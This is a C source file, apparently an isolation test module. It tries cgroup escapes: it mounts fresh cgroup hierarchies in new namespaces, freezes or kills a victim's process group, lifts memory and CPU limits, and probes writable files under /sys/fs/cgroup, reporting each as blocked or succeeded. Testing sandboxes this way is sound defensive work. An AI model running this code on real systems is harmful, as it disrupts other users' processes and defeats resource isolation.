/* Control groups: a hierarchy mounted anew, and the files of those that are there. */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static char where[64], evidence[512];
static int last_error = ENOENT;
static char victim_group[64];

static void remember(const char *what, const char *path) {
  size_t used = strlen(evidence);
  snprintf(evidence + used, sizeof evidence - used, " %s %s", what, path + strlen(where));
}

/* Writes what kills, freezes or frees: the victim's groups, and the limits of whatever is the top here. */
static int harm(const char *path, const struct stat *status, int kind, struct FTW *at) {
  (void)status;
  const char *name = path + at->base;
  bool is_victims = strstr(path, victim_group) != NULL, is_own = at->level == 1;
  if (kind != FTW_F || at->level > 3 || (!is_victims && !is_own)) return 0;
  if (is_victims && strcmp(name, "freezer.state") == 0 && write_file(path, "FROZEN")) remember("froze", path);
  if (is_victims && strcmp(name, "cgroup.freeze") == 0 && write_file(path, "1")) remember("froze", path);
  if (is_victims && strcmp(name, "cgroup.kill") == 0 && write_file(path, "1")) remember("killed", path);
  if (strcmp(name, "memory.limit_in_bytes") == 0 && write_file(path, "-1")) remember("lifted", path);
  if (strcmp(name, "memory.max") == 0 && write_file(path, "max")) remember("lifted", path);
  if (strcmp(name, "cpu.cfs_quota_us") == 0 && write_file(path, "-1")) remember("lifted", path);
  if (strcmp(name, "cpu.max") == 0 && write_file(path, "max")) remember("lifted", path);
  return 0;
}

static void mount_hierarchy(const char *type, const char *options) {
  nest(CLONE_NEWCGROUP | CLONE_NEWNS);
  snprintf(victim_group, sizeof victim_group, "/" VICTIM_NAME "/", victim);
  snprintf(where, sizeof where, "/tmp/hierarchy-%s", options == NULL ? "2" : options);
  mkdir(where, 0755);
  if (mount("none", where, type, 0, options) != 0) blocked(errno);
  nftw(where, harm, 16, FTW_PHYS);
  succeeded("mounted %s%s%s%s%s", type, options == NULL ? "" : " of ", options == NULL ? "" : options, evidence[0] == '\0' ? "" : ":", evidence);
}

static void freezer(void) { mount_hierarchy("cgroup", "freezer"); }
static void memory(void) { mount_hierarchy("cgroup", "memory"); }
static void cores(void) { mount_hierarchy("cgroup", "cpu"); }
static void devices(void) { mount_hierarchy("cgroup", "devices"); }
static void unified(void) { mount_hierarchy("cgroup2", NULL); }

static int open_for_writing(const char *path, const struct stat *status, int kind, struct FTW *at) {
  (void)status;
  (void)at;
  if (kind != FTW_F) return 0;
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd >= 0) succeeded("opened %s", path);
  last_error = errno;
  return 0;
}

static void files(void) {
  nftw("/sys/fs/cgroup", open_for_writing, 16, FTW_PHYS);
  blocked(last_error);
}

const struct attack cgroup_attacks[] = {
    {"cgroup-mount-freezer", freezer}, {"cgroup-mount-memory", memory}, {"cgroup-mount-cpu", cores},
    {"cgroup-mount-devices", devices}, {"cgroup-mount-v2", unified},    {"cgroup-files", files},
    {NULL, NULL},
};
